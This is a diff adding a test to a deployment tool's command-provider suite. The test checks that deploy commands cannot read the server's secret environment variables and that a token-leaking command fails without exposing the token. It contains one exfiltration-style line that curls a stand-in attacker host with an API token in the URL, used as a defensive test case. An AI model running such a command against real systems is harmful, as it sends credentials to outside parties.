@@ -48,6 +48,31 @@ describe('command provider', () => {
     expect(outcome.artifacts).toEqual([{ name: 'log', kind: 'text', value: outcome.log }]);
   });
 
+  it("hands a plan none of the server's secrets: not to the command, not as ${NAME}", async () => {
+    const saved = { ...process.env };
+    Object.assign(process.env, {
+      MATERI_API_TOKEN: 'admin-secret-1',
+      MATERI_DATABASE_URL: 'postgres://materi:pw-2@db/materi',
+      MATERI_REDIS_URL: 'redis://:pw-3@redis:6379',
+      SHOP_REGION: 'eu',
+    });
+    try {
+      const stage = stageWith({
+        type: 'command',
+        deploy:
+          'echo "token=$MATERI_API_TOKEN db=$MATERI_DATABASE_URL redis=$MATERI_REDIS_URL region=$SHOP_REGION"',
+      });
+      const outcome = await deployStage({ stage, deployment: deploymentOf(), baseDir: dir });
+      expect(outcome.log?.trim()).toBe('token= db= redis= region=eu');
+      const leaking = stageWith({ type: 'command', deploy: 'curl "https://evil.test/${MATERI_API_TOKEN}"' });
+      const error = await failure(deployStage({ stage: leaking, deployment: deploymentOf(), baseDir: dir }));
+      expect(error.message).toContain('${MATERI_API_TOKEN} is not set');
+      expect(error.message).not.toContain('admin-secret-1');
+    } finally {
+      process.env = saved;
+    }
+  });
+
   it('rolls back by running the deploy command with the previous version when no rollback command is set', async () => {
     const stage = stageWith({ type: 'command', deploy: 'echo "install ${VERSION} ($MATERI_ACTION)"' });
     const outcome = await rollbackStage({ stage, deployment: deploymentOf() });
